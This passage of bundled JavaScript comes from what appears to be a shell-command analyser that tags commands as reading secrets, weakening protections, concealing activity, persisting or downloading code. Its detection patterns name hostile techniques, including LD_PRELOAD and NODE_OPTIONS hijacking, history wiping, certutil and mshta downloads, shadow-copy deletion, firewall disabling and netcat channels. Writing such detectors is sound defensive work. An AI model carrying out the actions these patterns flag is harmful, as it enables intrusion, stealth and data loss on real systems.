        return NOTHING;
    };
}
/** A command that switches a protection off when its line matches. */
function weakens(when) {
    return (call) => {
        const line = commandLine(call);
        note(call, when.test(line) ? 'weaken' : 'execute', { target: line });
        return NOTHING;
    };
}
/** A command that reads something private when its line matches; its output carries it. */
function reveals(subject, when) {
    return (call) => {
        const line = commandLine(call);
        if (when.test(line))
            return derived(plus(NO_ORIGINS, note(call, 'read', { subject, target: line })));
        note(call, 'execute', { target: line, flowsFrom: originsOf(call.args) });
        return derived(originsOf([call.stdin, ...call.args]));
    };
}
/** `env`, `printenv`, `set`, `export -p`, `declare -x`: the whole environment when they have nothing else to do. */
const environment = (call) => {
    const words = call.args.filter((arg) => !arg.text.startsWith('-'));
    const assignments = words.filter((arg) => /^[A-Za-z_]\w{0,80}=/u.test(arg.text));
    const whole = words.length === 0 &&
        (call.name === 'env' ||
            call.name === 'printenv' ||
            (call.name === 'set' && call.args.length === 0) ||
            call.args.some((arg) => /^-[px]{1,2}$/u.test(arg.text)));
    if (whole)
        return derived(plus(NO_ORIGINS, note(call, 'read', { subject: 'environment', target: call.name })));
    if (call.name === 'env' && words.length > assignments.length)
        return call.run(words.slice(assignments.length), call.hasInput ? call.stdin : NOTHING, call.flags);
    if (call.name === 'printenv')
        return derived(plus(NO_ORIGINS, note(call, 'read', { subject: 'environment-variable', target: words[0]?.text ?? '' })));
    if (call.name === 'set' && call.args.some((arg, index) => arg.text === '+o' && call.args[index + 1]?.text === 'history'))
        note(call, 'conceal', { target: 'set +o history' });
    return NOTHING;
};
const HIJACK = /^(?:LD_PRELOAD|LD_LIBRARY_PATH|LD_AUDIT|DYLD_INSERT_LIBRARIES|NODE_OPTIONS|BASH_ENV|ENV|PROMPT_COMMAND|PYTHONSTARTUP|PERL5OPT|PERL5LIB|RUBYOPT|GIT_SSH_COMMAND|GIT_EXTERNAL_DIFF|JAVA_TOOL_OPTIONS|PYTHONHOME|EDITOR_HOOK)$/u;
const HISTORY_OFF = /^(?:HISTFILE|HISTSIZE|HISTFILESIZE)$/u;
/** `export`, `declare`, `typeset`, `local`, `readonly`: assignments, some of which make every later program load code. */
const declare = (call) => {
    if (call.args.length > 0 && call.args.every((arg) => /^-[px]{1,2}$/u.test(arg.text)))
        return environment(call);
    for (const arg of call.args) {
        const match = /^([A-Za-z_]\w{0,80})\+?=/u.exec(arg.text);
        if (!match)
            continue;
        const name = match[1] ?? '';
        const value = { ...arg, text: arg.text.slice(match[0].length) };
        call.setVariable(name, value);
        noteVariable(call, name, value);
    }
    return NOTHING;
};
/** Notes what setting a variable brings about, when it is one that other programs obey. */
function noteVariable(call, name, value) {
    const harmless = value.text === '' ||
        (name === 'NODE_OPTIONS' && !/--(?:require|import|loader|experimental-loader)|(?:^|\s)-r\s/u.test(value.text)) ||
        (/LIBRARY_PATH|PERL5LIB/u.test(name) && !/\/tmp|\/dev\/shm|\/var\/tmp/u.test(value.text)) ||
        (name === 'ENV' && !/[./]/u.test(value.text));
    if (HIJACK.test(name) && !harmless)
        note(call, 'persist', { persistence: 'environment-hijack', target: `${name}=${value.text}`, flowsFrom: value.origins });
    else if (HISTORY_OFF.test(name) && /^(?:\/dev\/null|0|)$/u.test(value.text))
        note(call, 'conceal', { target: `${name}=${value.text}` });
    else if (/^(?:NODE_TLS_REJECT_UNAUTHORIZED|PYTHONHTTPSVERIFY|GIT_SSL_NO_VERIFY)$/u.test(name) && /^(?:0|1|true)$/u.test(value.text))
        note(call, 'weaken', { target: `${name}=${value.text}`, flags: ['insecure'] });
}
const unset = (call) => {
    const history = call.args.find((arg) => HISTORY_OFF.test(arg.text));
    if (history)
        note(call, 'conceal', { target: `unset ${history.text}` });
    return NOTHING;
};
const system_history = (call) => {
    const line = commandLine(call);
    if (/\s-[a-z]{0,3}[cdw]/u.test(line) && !/-[arnps]/u.test(line)) {
        note(call, 'conceal', { target: line });
        return NOTHING;
    }
    return derived(plus(NO_ORIGINS, note(call, 'read', { subject: 'shell-history', target: line })));
};
/** `find`: what it lists, and what it runs or deletes. */
const find = (call) => {
    const roots = [];
    for (const arg of call.args) {
        if (/^[-(!]/u.test(arg.text))
            break;
        roots.push(arg);
    }
    const place = roots[0] ?? literal('.');
    const names = call.args.filter((_, index) => /^-i?(?:name|path|wholename|regex)$/u.test(call.args[index - 1]?.text ?? ''));
    const sensitive = [...names, place]
        .map((name) => classifyPath(name.text).subject)
        .find((subject) => subject !== undefined && subject !== 'file');
    const deed = note(call, 'read', { target: concat(call.args, ' ').text, subject: sensitive ?? 'file', flags: ['recursive'] });
    const listed = derived(plus(NO_ORIGINS, deed));
    if (call.args.some((arg) => arg.text === '-delete'))
        note(call, 'delete', { target: place.text, flags: ['recursive'] });
    const at = call.args.findIndex((arg) => /^-(?:exec|execdir|ok|okdir)$/u.test(arg.text));
    if (at === -1)
        return listed;
    const words = call.args.slice(at + 1).filter((arg) => !/^(?:;|\\;|\+)$/u.test(arg.text));
    const filled = words.map((arg) => arg.text.includes('{}')
        ? { ...arg, text: arg.text.replaceAll('{}', place.text), known: false, origins: union(arg.origins, listed.origins) }
        : arg);
    const output = call.run(filled, NOTHING, ['recursive', ...call.flags]);
    return derived(union(output.origins, listed.origins));
};
/** Screens, cameras, microphones: what is caught goes to a file. */
const capture = (call) => {
    const deed = note(call, 'read', { subject: 'screen', target: commandLine(call) });
    const file = call.args.filter((arg) => /\.\w{3,4}$/u.test(arg.text)).at(-1);
    const seen = derived(plus(NO_ORIGINS, deed));
    if (file)
        call.reading.writePath(file, seen, call.name, call.place);
    return seen;
};
/** `whoami`, `hostname`, `id`, `uname`: names of the machine and its user. */
const identity = (call) => derived(plus(NO_ORIGINS, note(call, 'read', { subject: 'machine-identity', target: commandLine(call) })));
/** `sed`: prints a file, or edits it in place. */
const sed = (call) => {
    const parsed = parseOptions(call.args, { short: 'efl', long: new Set(['expression', 'file']) });
    const files = parsed.operands.slice(hasOption(parsed, 'e', 'f', 'expression', 'file') ? 0 : 1).filter((file) => file.text !== '');
    if (files.length === 0)
        return derived(call.stdin.origins);
    const inPlace = [...parsed.options.keys()].some((option) => option === 'i' || option.startsWith('in-place'));
    if (inPlace) {
        for (const file of files)
            call.reading.writePath(file, parsed.operands[0] ?? NOTHING, 'sed -i', call.place);
        return NOTHING;
    }
    return derived(originsOf(files.map((file) => call.reading.readPath(file, 'sed', call.place))));
};
/** `docker run` and its like: a container with the rights of the host. */
const container = (call) => {
    const line = commandLine(call);
    const privileged = /--privileged\b|--pid[= ]host\b|--cap-add[= ](?:ALL|SYS_ADMIN)|-v\s{0,2}\/:\/|--volume[= ]\/:\/|source=\/,|docker\.sock/u.test(line);
    note(call, 'execute', { target: line, flags: privileged ? ['privileged'] : [], flowsFrom: originsOf(call.args) });
    return UNKNOWN;
};
/** `read NAME`: a line of the input. */
const readLine = (call) => {
    for (const arg of call.args)
        if (/^[A-Za-z_]\w{0,60}$/u.test(arg.text))
            call.setVariable(arg.text, derived(call.stdin.origins, `$${arg.text}`));
    return NOTHING;
};
/** A miner, by its own name. */
const miner = (call) => {
    note(call, 'mine', { target: commandLine(call) });
    return NOTHING;
};

;// CONCATENATED MODULE: ./lib/skills/code/shell/commands/windows.js




const isAddress = (text) => /^['"]?(?:https?|ftp|\\\\)/iu.test(text);
/** `certutil -urlcache -f URL FILE` downloads, `certutil -decode IN OUT` decodes. */
const certutil = (call) => {
    const operands = call.args.filter((arg) => !/^[-/][a-z]/iu.test(arg.text));
    const address = operands.find((arg) => isAddress(arg.text));
    const target = operands.at(-1);
    if (address) {
        const answer = call.reading.request({ name: 'certutil', address, payload: [], sends: false, flags: call.flags }, call.place);
        if (target && target !== address)
            call.reading.writePath(target, answer, 'certutil', call.place);
        return NOTHING;
    }
    if (!call.args.some((arg) => /^[-/]decode(?:hex)?$/iu.test(arg.text)) || !operands[0] || !target)
        return NOTHING;
    const read = call.reading.readPath(operands[0], 'certutil', call.place);
    const origins = plus(read.origins, note(call, 'decode', { target: 'base64', flowsFrom: read.origins }));
    const text = read.known ? base64(read.text) : undefined;
    call.reading.writePath(target, text === undefined ? derived(origins) : literal(text, origins), 'certutil', call.place);
    return NOTHING;
};
/** `bitsadmin /transfer JOB URL FILE`. */
const bitsadmin = (call) => {
    const address = call.args.find((arg) => isAddress(arg.text));
    const target = call.args.at(-1);
    if (!address || !target)
        return NOTHING;
    const answer = call.reading.request({ name: 'bitsadmin', address, payload: [], sends: false, flags: call.flags }, call.place);
    if (target !== address)
        call.reading.writePath(target, answer, 'bitsadmin', call.place);
    return NOTHING;
};
/** `mshta URL`, `regsvr32 /i:URL`, `rundll32`, `msiexec /i URL`: programs of the system that run what they are pointed at. */
const proxyExecution = (call) => {
    const line = commandLine(call);
    const found = /(?:https?:\/\/|\/\/(?=[^\s"',)/.]{1,63}\.))[^\s"',)]{3,300}/iu.exec(line)?.[0];
    const script = /^mshta\b.{0,40}\b(?:vbscript|javascript):/iu.test(line);
    if (found === undefined) {
        note(call, script ? 'evaluate' : 'execute', { target: line, flowsFrom: originsOf(call.args) });
        return NOTHING;
    }
    const answer = call.reading.request({ name: call.name, address: literal(found), payload: [], sends: false, flags: call.flags }, call.place);
    note(call, 'evaluate', { target: line, flowsFrom: union(answer.origins, originsOf(call.args)) });
    return NOTHING;
};
/** `del`, `rd`, `rmdir`, `format`: deletions of Windows. */
const removeWindows = (call) => {
    const recursive = call.args.some((arg) => /^\/s$/iu.test(arg.text));
    for (const path of call.args.filter((arg) => !/^\/[a-z]{1,3}(?::|$)/iu.test(arg.text))) {
        note(call, 'delete', {
            target: path.text,
            flags: [...(recursive ? ['recursive'] : []), ...(call.name === 'format' ? ['irreversible'] : [])],
            flowsFrom: path.origins,
        });
    }
    return NOTHING;
};
/** `type FILE`, `more FILE`. */
const typeFile = (call) => {
    const files = call.args.filter((arg) => /[\\.%:/]/u.test(arg.text));
    return derived(originsOf(files.map((file) => call.reading.readPath(file, 'type', call.place))));
};
/** `start FILE`, `call FILE`. */
const start = (call) => {
    const words = call.args.filter((arg) => !/^(?:\/[a-z]+|)$/iu.test(arg.text));
    const first = words[0]?.text === '' || (words.length > 1 && /\s/u.test(words[0]?.text ?? '')) ? words.slice(1) : words;
    return first.length === 0 ? NOTHING : call.run(first, NOTHING, ['background']);
};
/** `vssadmin delete shadows`, `wevtutil cl`, `bcdedit`: recovery and logs. */
const recovery = (call) => {
    const line = commandLine(call);
    if (/\bdelete\b.{0,60}shadow|recoveryenabled\s+no|delete\s+catalog/iu.test(line))
        note(call, 'weaken', { target: line });
    else if (/\b(?:cl|clear-log)\b/iu.test(line))
        note(call, 'conceal', { target: line });
    else
        note(call, 'execute', { target: line });
    return NOTHING;
};
/** `netsh advfirewall set … off`. */
const netsh = (call) => {
    const line = commandLine(call);
    note(call, /advfirewall.{0,80}\boff\b|firewall.{0,60}disable/iu.test(line) ? 'weaken' : 'execute', { target: line });
    return NOTHING;
};

;// CONCATENATED MODULE: ./lib/skills/code/shell/read-words.js
const MAX_DEPTH = 40;
const SPECIAL = /[\s|&;<>()"'`$\\#]/u;
/** Reads one word of POSIX shell grammar (XCU 2.2, 2.3) with the extensions of bash and zsh; undefined when none starts here. */
function readWord(cursor, read) {
    const start = cursor.at;
    const parts = [];
    while (cursor.at < cursor.text.length) {
        const before = cursor.at;
        readPart(cursor, parts, read);
        if (cursor.at === before)
            break;
    }
    return cursor.at === start ? undefined : { start, end: cursor.at, parts };
}
function readPart(cursor, parts, read) {
    const { text, at } = cursor;
    const unit = text[at] ?? '';
    if (unit === "'")
        return readSingle(cursor, parts);
    if (unit === '"')
        return readDouble(cursor, parts, read);
    if (unit === '\\')
        return readEscape(cursor, parts);
    if (unit === '$')
        return readDollar(cursor, parts, read, false);
    if (unit === '`')
        return readBackticks(cursor, parts, read);
    if ((unit === '<' || unit === '>') && text[at + 1] === '(')
        return readProcess(cursor, parts, read, unit);
    if (unit === '#' && parts.length > 0)
        return pushText(cursor, parts, 1);
    if (SPECIAL.test(unit))
        return;
    let end = at + 1;
    while (end < text.length && !isSpecial(text.charCodeAt(end)))
        end += 1;
    pushText(cursor, parts, end - at);
}
/** White space and the characters that end or change an unquoted run. */
function isSpecial(code) {
    if (code > 0x7c)
        return code === 0xa0 || code === 0x3000;
    return (code <= 0x20 ||
        code === 0x22 ||
        (code >= 0x23 && code <= 0x24) ||
        (code >= 0x26 && code <= 0x29) ||
        code === 0x3b ||
        code === 0x3c ||
        code === 0x3e ||
        code === 0x5c ||
        code === 0x60 ||
        code === 0x7c);
}
function pushText(cursor, parts, length) {
    parts.push({ kind: 'text', text: cursor.text.slice(cursor.at, cursor.at + length), quoting: 'none' });
    cursor.at += length;
}
function readSingle(cursor, parts) {
    const end = cursor.unclosed.has("'") ? -1 : cursor.text.indexOf("'", cursor.at + 1);
    if (end === -1) {
        cursor.unclosed.add("'");
        return pushText(cursor, parts, 1);
    }
    parts.push({ kind: 'text', text: cursor.text.slice(cursor.at + 1, end), quoting: 'single' });
    cursor.at = end + 1;
}
function readEscape(cursor, parts) {
    const next = cursor.text[cursor.at + 1] ?? '';
    const width = next === '\r' && cursor.text[cursor.at + 2] === '\n' ? 3 : Math.min(2, cursor.text.length - cursor.at);
    const text = next === '\n' || next === '\r' ? '' : next;
    parts.push({ kind: 'text', text, quoting: text === '' ? 'none' : 'escape' });
    cursor.at += width;
}
function readDouble(cursor, parts, read) {
    if (cursor.unclosed.has('"'))
        return pushText(cursor, parts, 1);
    const { text } = cursor;
    const opening = cursor.at;
    const inner = [];
    cursor.at += 1;
    let run = cursor.at;
    const flush = () => {
        if (cursor.at > run)
            inner.push({ kind: 'text', text: text.slice(run, cursor.at), quoting: 'double' });
    };
    for (;;) {
        const unit = text[cursor.at];
        if (unit === undefined) {
            cursor.unclosed.add('"');
            cursor.at = opening;
            return pushText(cursor, parts, 1);
        }
        if (unit === '"')
            break;
        if (unit === '\\') {
            flush();
            readEscapeInDouble(cursor, inner);
        }
        else if (unit === '$' || unit === '`') {
            flush();
            const before = cursor.at;
            if (unit === '$')
                readDollar(cursor, inner, read, true);
            else
                readBackticks(cursor, inner, read);
            if (cursor.at === before)
                cursor.at += 1;
        }
        else {
            cursor.at += 1;
            continue;
        }
        run = cursor.at;
    }
    flush();
    cursor.at += 1;
    if (inner.length === 0)
        inner.push({ kind: 'text', text: '', quoting: 'double' });
    for (const part of inner)
        parts.push(part);
}
function readEscapeInDouble(cursor, parts) {
    const next = cursor.text[cursor.at + 1] ?? '';
    const text = next === '\n' ? '' : '"\\$`'.includes(next) && next !== '' ? next : `\\${next}`;
    parts.push({ kind: 'text', text, quoting: 'double' });
    cursor.at = Math.min(cursor.text.length, cursor.at + 2);
}
function readBackticks(cursor, parts, read) {
    const start = cursor.at;
    if (cursor.unclosed.has('`') || !cursor.text.includes('`', start + 1)) {
        cursor.unclosed.add('`');
        return pushText(cursor, parts, 1);
    }
    cursor.at += 1;
    const pipelines = read('`');
    parts.push({ kind: 'command', pipelines, raw: cursor.text.slice(start, Math.min(cursor.at, start + 200)) });
}
function readProcess(cursor, parts, read, direction) {
    const start = cursor.at;
    cursor.at += 2;
    const pipelines = read(')');
    parts.push({ kind: 'process', direction, pipelines, raw: cursor.text.slice(start, Math.min(cursor.at, start + 200)) });
}
const VARIABLE = /[A-Za-z_][A-Za-z0-9_]{0,200}|[0-9@*#?$!-]/uy;
function readDollar(cursor, parts, read, quoted) {
    const { text, at } = cursor;
    const next = text[at + 1] ?? '';
    if (next === '(')
        return readSubstitution(cursor, parts, read);
    if (next === '{')
        return readBraced(cursor, parts, quoted);
    if (next === "'" && !quoted)
        return readAnsi(cursor, parts);
    if (next === '"' && !quoted) {
        cursor.at += 1;
        return readDouble(cursor, parts, read);
    }
    VARIABLE.lastIndex = at + 1;
    const name = VARIABLE.exec(text)?.[0];
    if (name === undefined) {
        parts.push({ kind: 'text', text: '$', quoting: quoted ? 'double' : 'none' });
        cursor.at += 1;
        return;
    }
    parts.push({ kind: 'variable', name, raw: `$${name}`, operation: '', quoted });
    cursor.at = at + 1 + name.length;
}
function readSubstitution(cursor, parts, read) {
    const start = cursor.at;
    if (cursor.text[start + 2] === '(')
        return readArithmetic(cursor, parts);
    cursor.at += 2;
    const pipelines = read(')');
    parts.push({ kind: 'command', pipelines, raw: cursor.text.slice(start, Math.min(cursor.at, start + 200)) });
}
function readArithmetic(cursor, parts) {
    const limit = cursor.text.slice(cursor.at, cursor.at + 500);
    const end = limit.indexOf('))');
    const width = end === -1 ? Math.min(3, limit.length) : end + 2;
    parts.push({ kind: 'variable', name: '', raw: limit.slice(0, width), operation: '', quoted: true });
    cursor.at += width;
}
/** `${name…}`: the operation after the name is kept as text; nested braces are counted. */
function readBraced(cursor, parts, quoted) {
    const { text, at } = cursor;
    const match = /^([!#]?)([A-Za-z_][A-Za-z0-9_]{0,200}|[0-9@*#?$!-])/u.exec(text.slice(at + 2, at + 206));
    let depth = 1;
    let end = at + 2;
    const limit = Math.min(text.length, at + 2000);
    for (; end < limit && depth > 0; end += 1) {
        const unit = text[end];
        if (unit === '{')
            depth += 1;
        else if (unit === '}')
            depth -= 1;
        else if (unit === '\n')
            break;
    }
    if (!match || depth > 0) {
        parts.push({ kind: 'text', text: '${', quoting: quoted ? 'double' : 'none' });
        cursor.at = at + 2;
        return;
    }
    const name = match[2] ?? '';
    const operation = (match[1] ?? '') + text.slice(at + 2 + match[0].length, end - 1);
    parts.push({ kind: 'variable', name, raw: text.slice(at, end), operation, quoted });
    cursor.at = end;
}
const ANSI = { n: '\n', t: '\t', r: '\r', a: '\x07', b: '\b', e: '\x1b', E: '\x1b', f: '\f', v: '\v' };
/** `$'…'`: a string with the escapes of C (bash manual 3.1.2.4). */
function readAnsi(cursor, parts) {
    const { text } = cursor;
    let end = cursor.at + 2;
    while (end < text.length && text[end] !== "'")
        end += text[end] === '\\' ? 2 : 1;
    if (end >= text.length || cursor.unclosed.has("$'")) {
        cursor.unclosed.add("$'");
        parts.push({ kind: 'text', text: '$', quoting: 'none' });
        cursor.at += 1;
        return;
    }
    parts.push({ kind: 'text', text: unescapeAnsi(text.slice(cursor.at + 2, end)), quoting: 'ansi' });
    cursor.at = end + 1;
}
/** Resolves the escapes of C in a string, as `$'…'`, `printf` and `echo -e` do. */
function unescapeAnsi(text) {
    return text.replace(/\\(?:x([0-9A-Fa-f]{1,2})|u([0-9A-Fa-f]{1,4})|U([0-9A-Fa-f]{1,8})|0?([0-7]{1,3})|([\s\S]))/gu, (whole, hex, short, long, octal, other) => {
        const digits = hex ?? short ?? long;
        if (digits !== undefined)
            return fromCode(Number.parseInt(digits, 16));
        if (octal !== undefined)
            return fromCode(Number.parseInt(octal, 8) & 255);
        return other === undefined ? whole : (ANSI[other] ?? ('\\\'"?'.includes(other) ? other : whole));
    });
}
function fromCode(code) {
    return code <= 0x10ffff ? String.fromCodePoint(code) : '\ufffd';
}

;// CONCATENATED MODULE: ./lib/skills/code/shell/commands/text-tools.js





/** `echo`. */
const echo = (call) => {
    let at = 0;
    let escapes = false;
    while (/^-[neE]{1,3}$/u.test(call.args[at]?.text ?? '')) {
        escapes ||= (call.args[at]?.text ?? '').includes('e');
        at += 1;
    }
    const said = concat(call.args.slice(at), ' ');
    const text = escapes || /^(?:\\x[0-9a-f]{2}|\\[0-7]{3,4}){3,}/iu.test(said.text) ? unescapeAnsi(said.text) : said.text;
    return { ...said, text: `${text}\n` };
};
/** `printf FORMAT ARG…`. */
const printf = (call) => {
    const args = call.args[0]?.text === '-v' ? call.args.slice(2) : call.args;
    const [format, ...rest] = args;
    if (!format)
        return NOTHING;
    let next = 0;
    const filled = unescapeAnsi(format.text).replace(/%(?:%|[-+ #0]{0,4}\d{0,4}(?:\.\d{1,4})?([sbdiqxXoc]))/gu, (whole, letter) => {
        if (letter === undefined)
            return whole === '%%' ? '%' : whole;
        const value = rest[next]?.text ?? '';
        next += 1;
        return letter === 'b' ? unescapeAnsi(value) : value;
    });
    const extra = /^%[sb](?:\\n)?$/u.test(format.text)
        ? rest
            .slice(next)
            .map((arg) => (format.text.includes('b') ? unescapeAnsi(arg.text) : arg.text))
            .join('')
        : '';
    const all = [format, ...rest];
    const value = { text: filled + extra, known: all.every((arg) => arg.known), origins: originsOf(all) };
    if (call.args[0]?.text === '-v')
        call.setVariable(call.args[1]?.text ?? '', value);
    return value;
};
/** Programs that print files, or pass their input on: cat, head, grep, sed, sort … What they print has the origins of both. */
function filter(operandsBefore) {
    return (call) => {
        const files = fileOperands(call, operandsBefore);
        if (files.length === 0)
            return call.hasInput ? { ...call.stdin, known: call.stdin.known && call.name === 'cat' } : NOTHING;
        const read = files.map((file) => (file.text === '-' ? call.stdin : call.reading.readPath(file, call.name, call.place)));
        const all = concat(read);
        return call.name === 'cat' ? all : derived(union(all.origins, call.stdin.origins));
    };
}
function fileOperands(call, operandsBefore) {
    const parsed = parseOptions(call.args, {
        short: 'nefmdCABkt',
        long: new Set(['lines', 'bytes', 'regexp', 'file', 'arg', 'argjson', 'include', 'exclude']),
    });
    const given = hasOption(parsed, 'e', 'f', 'regexp') ? 0 : operandsBefore;
    const options = new Set([...parsed.options.values()].flat());
    const bare = parsed.operands.slice(given);
    if (call.name === 'cat')
        return [...call.args.filter((arg) => options.has(arg)), ...bare];
    return bare;
}
/** A program that turns text into another form: base64, xxd, gzip, openssl. */
function transform(call, decodes, decoders, files) {
    const input = files.length > 0
        ? concat(files.map((file) => (file.text === '-' ? call.stdin : call.reading.readPath(file, call.name, call.place))))
        : call.stdin;
    if (!call.hasInput && files.length === 0)
        return NOTHING;
    const deed = note(call, decodes ? 'decode' : 'encode', { target: call.name, flowsFrom: input.origins });
    const origins = plus(input.origins, deed);
    if (!decodes || !input.known)
        return derived(origins);
    for (const decoder of decoders) {
        const text = decoder(input.text.trim());
        if (text !== undefined)
            return literal(text, origins);
    }
    return derived(origins);
}
const base64Command = (call) => {
    const parsed = parseOptions(call.args, { short: 'wbio', long: new Set(['wrap', 'input', 'output']) });
    const input = parsed.options.get('i')?.[0] ?? parsed.options.get('input')?.[0];
    const decodes = hasOption(parsed, 'd', 'D', 'decode');
    return transform(call, decodes, call.name === 'base32' ? [base32] : [base64], input ? [input] : parsed.operands);
};
const xxd = (call) => {
    const decodes = call.args.some((arg) => /^-(?:[a-z]{0,3}r|revert)/u.test(arg.text));
    const files = call.args.filter((arg) => !arg.text.startsWith('-') && !/^\d{1,6}$/u.test(arg.text));
    return transform(call, decodes, [hex], files);
};
const openssl = (call) => {
    const verb = call.args[0]?.text ?? '';
    if (!/^(?:enc|base64|aes|des|bf|rc4|smime|rsautl|pkeyutl|s_client|s_server)/u.test(verb))
        return NOTHING;
    const at = call.args.findIndex((arg) => arg.text === '-in');
    const file = at === -1 ? undefined : call.args[at + 1];
    if (verb === 's_client') {
        const where = call.args[call.args.findIndex((arg) => arg.text === '-connect') + 1];
        return derived(plus(NO_ORIGINS, note(call, call.hasInput ? 'send' : 'fetch', {
            target: where?.text ?? '',
            host: 'named',
            flowsFrom: call.stdin.origins,
            ...(call.hasInput ? { flags: ['body'] } : {}),
        })));
    }
    const decodes = call.args.some((arg) => /^-(?:d|decrypt)$/u.test(arg.text));
    const plain = /base64|-a\b/u.test(call.args.map((arg) => arg.text).join(' '));
    const result = transform(call, decodes, plain ? [base64] : [], file ? [file] : []);
    const out = call.args[call.args.findIndex((arg) => arg.text === '-out') + 1];
    if (out && call.args.some((arg) => arg.text === '-out'))
        call.reading.writePath(out, result, call.name, call.place);
    return result;
};
/** gzip, gunzip, zcat, bzip2, xz, zstd. */
const compressor = (call) => {
    const parsed = parseOptions(call.args, { short: 'S', long: new Set() });
    const decodes = /^(?:gun|z|bz|xz|zstd?)cat$|^(?:gun|bun|un)/u.test(call.name) || hasOption(parsed, 'd', 'decompress');
    return transform(call, decodes, [inflate], parsed.operands);
};
/** tar, zip, 7z: what is packed flows into the archive; `-` and `-O` are the standard output. */
const archiver = (call) => {
    const letters = call.args
        .filter((arg) => /^-?[A-Za-z]{1,8}$/u.test(arg.text))
        .map((arg) => arg.text)
        .join('');
    const operands = call.args.filter((arg) => !arg.text.startsWith('-') && !/^[a-zA-Z]{1,6}$/u.test(arg.text));
    const extracts = call.name === 'unzip' ||
        call.name === 'unrar' ||
        (call.name === 'tar' ? letters.includes('x') : call.name === '7z' && /^[xe]$/u.test(call.args[0]?.text ?? ''));
    if (extracts) {
        const archive = operands[0];
        const written = archive ? call.reading.files.get(archive.text) : undefined;
        const origins = union(call.stdin.origins, written?.origins ?? NO_ORIGINS);
        if (origins.length > 0)
            call.reading.files.set('*extracted*', { origins, text: undefined });
        note(call, 'decode', { target: archive?.text ?? call.name, flowsFrom: origins });
        return derived(origins);
    }
    const toOutput = call.args.some((arg) => arg.text === '-') || !letters.includes('f');
    const [archive, ...members] = call.name === 'tar' && toOutput ? [undefined, ...operands] : operands;
    const read = members.map((member) => (member ? call.reading.readPath(member, call.name, call.place, ['recursive']) : NOTHING));
    const origins = originsOf([...read, call.stdin]);
    const packed = derived(plus(origins, note(call, 'encode', { target: call.name, flowsFrom: origins })));
    if (archive)
        call.reading.writePath(archive, packed, call.name, call.place);
    return toOutput ? packed : NOTHING;
};
/** `rev`, and `tr` with the usual ciphers. */
const reverse = (call) => {
    const deed = note(call, 'decode', { target: 'reversed', flowsFrom: call.stdin.origins });
    const origins = plus(call.stdin.origins, deed);
    return call.stdin.known ? literal(reversed(call.stdin.text.trim()) ?? '', origins) : derived(origins);
};
const translate = (call) => {
    const [from, to] = call.args.filter((arg) => !/^-[a-zA-Z]{1,3}$/u.test(arg.text)).map((arg) => ranges(arg.text));
    const deletes = call.args.some((arg) => /^-[a-zA-Z]{0,2}d/u.test(arg.text));
    if (from === undefined || !call.stdin.known)
        return derived(call.stdin.origins);
    if (deletes)
        return literal([...call.stdin.text].filter((letter) => !from.includes(letter)).join(''), call.stdin.origins);
    if (to === undefined || to === '')
        return derived(call.stdin.origins);
    const text = [...call.stdin.text]
        .map((letter) => (from.includes(letter) ? (to[Math.min(from.indexOf(letter), to.length - 1)] ?? letter) : letter))
        .join('');
    const cipher = from.length >= 20 && /[a-z]/iu.test(from) && from.toLowerCase() !== to.toLowerCase();
    return literal(text, cipher ? plus(call.stdin.origins, note(call, 'decode', { target: 'substitution', flowsFrom: call.stdin.origins })) : call.stdin.origins);
};
/** `a-z` written out. */
function ranges(text) {
    return unescapeAnsi(text.slice(0, 200)).replace(/([A-Za-z0-9!])-([A-Za-z0-9~])/gu, (whole, from, to) => {
        let out = '';
        for (let code = from.charCodeAt(0); code <= to.charCodeAt(0); code += 1)
            out += String.fromCharCode(code);
        return out === '' ? whole : out;
    });
}
/** `dd if= of=`, `cp`, `mv`, `install`, `ln`, `tee`: from file to file. */
const copy = (call) => {
    const operands = call.args.filter((arg) => !arg.text.startsWith('-'));
    const target = operands.at(-1);
    if (!target || operands.length < 2)
        return NOTHING;
    const sources = operands.slice(0, -1);
    const content = call.name === 'ln' ? originsOf(sources) : originsOf(sources.map((source) => call.reading.readPath(source, call.name, call.place)));
    const [only] = sources;
    const text = sources.length === 1 && only ? call.reading.files.get(only.text)?.text : undefined;
    call.reading.writePath(target, { ...derived(content), ...(text === undefined ? {} : { text, known: true }) }, call.name, call.place);
    return NOTHING;
};
const tee = (call) => {
    const append = call.args.some((arg) => /^-(?:a|-append)$/u.test(arg.text));
    for (const file of call.args)
        if (!file.text.startsWith('-'))
            call.reading.writePath(file, call.stdin, 'tee', call.place, append ? ['append', ...call.flags] : call.flags);
    return call.stdin;
};

;// CONCATENATED MODULE: ./lib/skills/code/shell/commands/dispatch.js










const none = () => NOTHING;
const entries = [
    ['curl', curl],
    ['wget wget2', wget],
    ['http https xh aria2c axel lwp-request GET POST curlie', httpClient],
    ['nc ncat netcat nc.traditional nc.openbsd', netcat],
    ['socat', socat],
    ['dig nslookup host drill ping ping6', resolver],
    ['scp rsync sftp rclone', copyRemote],
    ['ssh autossh', ssh],
    ['mail mailx sendmail mutt msmtp swaks', mail],
    ['aws gsutil gcloud az gh vault kubectl op heroku doppler', cloudCopy],
    ['eval', evaluate],
    ['source .', source],
    ['xargs parallel', xargs],
    ['sudo doas', prefix(/^-[ugpChrtD]$|^--(?:user|group|prompt|host|chdir)$/u, { sudo: true })],
    ['nohup setsid', prefix(/^$/u, { background: true })],
    ['command', (call) => (/^-[vV]/u.test(call.args[0]?.text ?? '') ? NOTHING : prefix(/^$/u)(call))],
    ['time exec builtin stdbuf unbuffer caffeinate noglob nocorrect then do else', prefix(/^-[ioea]$/u)],
    ['nice ionice chrt', prefix(/^-[ncp]$/u)],
    ['timeout gtimeout', prefix(/^-[sk]$/u, { operands: 1 })],
    ['su runuser watch script', commandInOption],
    ['echo', echo],
    ['printf', printf],
    ['cat bat tac nl head tail less strings od hexdump sort uniq column fold paste tr-d pv', filter(0)],
    ['grep egrep fgrep rg ag awk gawk jq yq cut-f perl-ne zgrep', filter(1)],
    ['cut wc shuf', filter(0)],
    ['sed gsed', sed],
    ['base64 gbase64 base32', base64Command],
    ['xxd', xxd],
    ['openssl', openssl],
    ['gzip gunzip zcat gzcat bzip2 bunzip2 bzcat xz unxz xzcat zstd zstdcat', compressor],
    ['tar zip 7z 7za unzip rar unrar', archiver],
    ['rev', reverse],
    ['tr', translate],
    ['cp mv install ln ditto', copy],
    ['tee', tee],
    ['rm shred srm unlink rmdir', remove],
    ['dd', dd],
    ['mkfs mkfs.ext4 mkfs.xfs mkfs.ext3 mkfs.vfat wipefs fdisk diskutil', wipe],
    ['chmod chown chattr xattr', permission],
    ['crontab', crontab],
    ['at batch', registers('scheduled-task', /^at\s+(?:now|\d|noon|midnight|-f|tomorrow)/u)],
    ['systemctl', registers('systemd', /\benable\b/u)],
